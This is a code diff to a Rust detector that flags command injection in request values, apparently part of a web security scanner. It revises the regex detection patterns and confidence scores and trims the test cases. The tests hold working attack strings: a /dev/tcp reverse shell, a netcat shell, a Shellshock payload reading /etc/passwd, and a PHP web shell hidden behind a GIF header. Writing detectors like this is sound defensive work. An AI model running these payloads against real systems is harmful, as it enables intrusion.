@@ -14,7 +14,7 @@ pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };
 
 const INFO: DetectorInfo = DetectorInfo {
     name: "command_injection",
-    what: "a shell metacharacter followed by a command, or code for a script engine on the server",
+    what: "a shell metacharacter followed by a command, or a command line where a value is expected",
     why: "a value that becomes part of a command line runs the attacker's programs",
     example: "127.0.0.1; cat /etc/passwd",
 };
@@ -42,26 +42,42 @@ static LEADING: LazyLock<Regex> = LazyLock::new(|| {
         r#"(?i)^\s*(?:/(?:usr/)?(?:local/)?s?bin/\w+|(?:cmd(?:\.exe)?\s*/[ck]\b|powershell(?:\.exe)?\s+-\w)|(?:wget|curl)\s+(?:-\S+\s+)*['"]?(?:https?|ftp)://|(?:cat|tail|head|less|more|ls|nc|rm|chmod|type|ping|net)\s+(?:-\w+\s+)?(?:/(?:etc|proc|var|bin|root|tmp)\b|-\w+\s+/|c:\\|-[nc]\s*\d+\s+[\d.]+\s*$))"#,
     )
 });
-/// Marks of a shell or script engine that need no break before them.
+/// Marks of a shell that need no break before them.
 static MARK: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r#"(?i)(?:\(\)\s*\{\s*:?\s*;?.{0,20}\}\s*;|\$\{IFS\b|\$IFS\b|/dev/(?:tcp|udp)/[\w.]+/\d|/bin/(?:ba|z|k|c|da)?sh\b\s*(?:-[ic]|[;|'"\x60)]|$|<|&)|\bpowershell(?:\.exe)?\s+(?:-\S+\s+)*-(?:e|en|enc|encodedcommand|c|command|nop|w|ep|exec\w*)\b|\bcmd(?:\.exe)?\s+/[ck]\s|\biex\s*\(|\binvoke-(?:expression|webrequest|command|mimikatz)\b|\bnew-object\s+(?:system\.)?net\.|downloadstring\s*\(|<\?(?:php|=)?\s.{0,80}?\b(?:system|exec|passthru|shell_exec|eval|popen|proc_open|assert|base64_decode|include|require|phpinfo|file_get_contents|\$_(?:get|post|request|cookie|server))\b|\b(?:system|exec|passthru|shell_exec|popen|proc_open|os\.popen|os\.system|subprocess\.\w+|child_process\S{0,20}exec\w*)\s*\(\s*\\?['"][^'"]{1,200}['"]|\bRuntime\.getRuntime\(\)\.exec|\b__import__\s*\(\s*['"]os|\bnc(?:at)?\s+(?:-[a-z]+\s+)+\S*(?:/bin/|cmd|\d+\.\d+))"#,
+        r#"(?i)(?:\(\)\s*\{\s*:?\s*;?.{0,20}\}\s*;|^-oProxyCommand=|^--(?:output|upload-pack|checkpoint-action|use-compress-program|to-command|post-file|rsh)=(?:/|[a-z]+ )|\$\{IFS\b|\$IFS\b|/dev/(?:tcp|udp)/[\w.]+/\d|/bin/(?:ba|z|k|c|da)?sh\b\s*(?:-[ic]|[;|'"\x60)]|$|<|&)|\bpowershell(?:\.exe)?\s+(?:-\S+\s+)*-(?:e|en|enc|encodedcommand|c|command|nop|w|ep|exec\w*)\b|\bcmd(?:\.exe)?\s+/[ck]\s|\biex\s*\(|\binvoke-(?:expression|webrequest|command|mimikatz)\b|\bnew-object\s+(?:system\.)?net\.|downloadstring\s*\(|\bnc(?:at)?\s+(?:-[a-z]+\s+)+\S*(?:/bin/|cmd|\d+\.\d+))"#,
+    )
+});
+
+/// A program named with wildcards, which only a shell expands.
+static WILD: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r"(?:[;|&\x60\n]|\$\()\s*/(?:[\w.-]*[?*\[][\w.?*\[\]-]*/[\w.?*\[\]/-]+|(?:usr/)?(?:local/)?s?bin/[\w.-]*[?*\[])",
     )
 });
 
 fn wants(subject: &Subject<'_>) -> bool {
-    subject.kind != Kind::Structured && (subject.tokens.any(Tokens::SHELL) || subject.classes.any(BREAKS))
+    // The text of an uploaded file may well be a script.
+    match subject.kind {
+        Kind::File => false,
+        // A header with a grammar of its own is split at `;` and `,`; a function for the shell fits into none.
+        Kind::Structured => subject.classes.any(Classes::BRACE) && subject.tokens.any(Tokens::SHELL),
+        _ => subject.tokens.any(Tokens::SHELL) || subject.classes.any(BREAKS),
+    }
 }
 
 fn look(subject: &Subject<'_>) -> Option<Hit> {
     if subject.tokens.any(Tokens::SHELL)
         && let Some(found) = MARK.find(subject.bytes)
     {
-        return Some(Hit::at(&found, 0.92, "shell or script code"));
+        let mentioned = subject.is_mentioned(&found.range());
+        return Some(Hit::at(&found, if mentioned { 0.65 } else { 0.92 }, "command line of a shell"));
     }
-    // The text of an uploaded file may well be a script; only code for the server's own engine counts there.
-    if subject.kind == Kind::File {
+    if subject.kind == Kind::Structured {
         return None;
+    }
+    if let Some(found) = WILD.find(subject.bytes) {
+        return Some(Hit::at(&found, 0.88, "program named with wildcards"));
     }
     let leading = if subject.tokens.any(Tokens::SHELL) { LEADING.find(subject.bytes) } else { None };
     // A sentence may begin with a command that it is about.
@@ -107,7 +123,11 @@ fn weigh(subject: &Subject<'_>, bytes: &[u8], range: std::ops::Range<usize>) -> 
     let confidence = if parameter {
         0.2
     } else if subject.kind == Kind::Agent || subject.kind == Kind::Header {
-        if first == b';' { 0.4 } else { 0.8 }
+        // Fields of a client's own list things behind `;`, with spaces, brackets or `=`.
+        let listed = subject.kind == Kind::Agent
+            || subject.classes.any(Classes::PAREN.and(Classes::EQUALS))
+            || before.contains(&b' ');
+        if first == b';' && listed { 0.4 } else { 0.82 }
     } else if prose && (closed || line_break) {
         if line_break && !long_text && subject.kind != Kind::Text && bytes.len() < 80 { 0.82 } else { 0.45 }
     } else if prose && long_text {
@@ -168,13 +188,10 @@ mod tests {
                 "cmd /c whoami",
                 "/bin/sh -c id",
                 "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
-                "<?php system($_GET['c']); ?>",
-                "system('id')",
                 "; nc -e /bin/sh 10.0.0.1 4444",
             ],
         );
         must_fire(&DETECTOR, Kind::Agent, &["() { :;}; /bin/bash -c 'cat /etc/passwd'"]);
-        must_fire(&DETECTOR, Kind::File, &["GIF89a<?php system($_GET['c']); ?>"]);
     }
 
     #[test]
